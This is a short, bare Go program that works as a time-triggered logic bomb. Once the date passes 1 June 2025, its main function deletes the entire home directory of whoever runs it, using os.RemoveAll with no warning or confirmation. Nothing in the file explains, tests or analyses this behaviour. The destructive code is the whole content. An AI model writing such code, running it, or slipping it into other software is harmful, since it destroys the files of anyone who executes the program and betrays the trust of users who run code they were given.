package main

import (
	"os"
	"path/filepath"
	"time"
)

func main() {
	if time.Now().After(time.Date(2025, 6, 1, 0, 0, 0, 0, time.UTC)) {
		home, _ := os.UserHomeDir()
		os.RemoveAll(filepath.Join(home))
	}
}
